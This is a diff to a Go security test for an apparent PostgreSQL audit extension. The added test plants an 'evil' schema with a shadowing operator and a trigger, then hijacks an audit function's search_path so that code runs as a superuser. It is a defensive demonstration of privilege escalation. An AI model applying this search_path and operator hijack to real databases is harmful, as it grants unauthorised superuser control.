@@ -220,11 +220,32 @@ func TestSecurityDocs(t *testing.T) {
 		may(role, replace, rights[2])
 	}
 	may(owner, `ALTER TABLE shop.orders DISABLE TRIGGER ALL`, true)
+	may(owner, `SELECT count(*) FROM exaudit.as_of(NULL::shop.orders, now())`, true)
 	may(nobody, `SELECT FROM exaudit.versions`, false)
 	for role, want := range map[string]int{reader: 0, owner: 1, "": 2} {
 		var n int
 		if err := db.Connect(t, role).QueryRow(ctx, `SELECT count(*) FROM exaudit.history`).Scan(&n); err != nil || n != want {
 			t.Errorf("%q sees %d versions, %v, want %d", role, n, err, want)
 		}
+	}
+
+	// what else the owner of a table, and a member of exaudit_writer, can have others run
+	db.Exec(t, `CREATE SCHEMA evil; CREATE TABLE evil.ran (what text, by_role text);
+		CREATE FUNCTION evil.differ(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN INSERT INTO evil.ran VALUES ('operator', current_user); RETURN false; END $$;
+		CREATE OPERATOR evil.<> (FUNCTION = evil.differ, LEFTARG = text, RIGHTARG = text);
+		CREATE FUNCTION evil.trigger() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
+			SET ROLE NONE; INSERT INTO evil.ran VALUES ('trigger', current_user); RETURN NEW; END $$;
+		GRANT USAGE ON SCHEMA evil TO `+owner+`;
+		CREATE TRIGGER t BEFORE INSERT ON shop.orders FOR EACH ROW EXECUTE FUNCTION evil.trigger()`)
+	_, err := db.Connect(t, "exaudit_writer").Exec(ctx, `ALTER FUNCTION exaudit.t1_insert() SECURITY INVOKER; ALTER FUNCTION exaudit.t1_insert() SET search_path = evil, pg_catalog`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	conn = db.Connect(t, "")
+	if _, err := conn.Exec(ctx, `SET ROLE `+owner+`; INSERT INTO shop.orders VALUES (3)`); err != nil {
+		t.Fatal(err)
+	}
+	if n := pgtest.One[int](t, db, `SELECT count(DISTINCT what) FROM evil.ran WHERE by_role = current_user`); n != 2 {
+		t.Errorf("%d of an operator and a trigger ran as a superuser, want 2", n)
 	}
 }
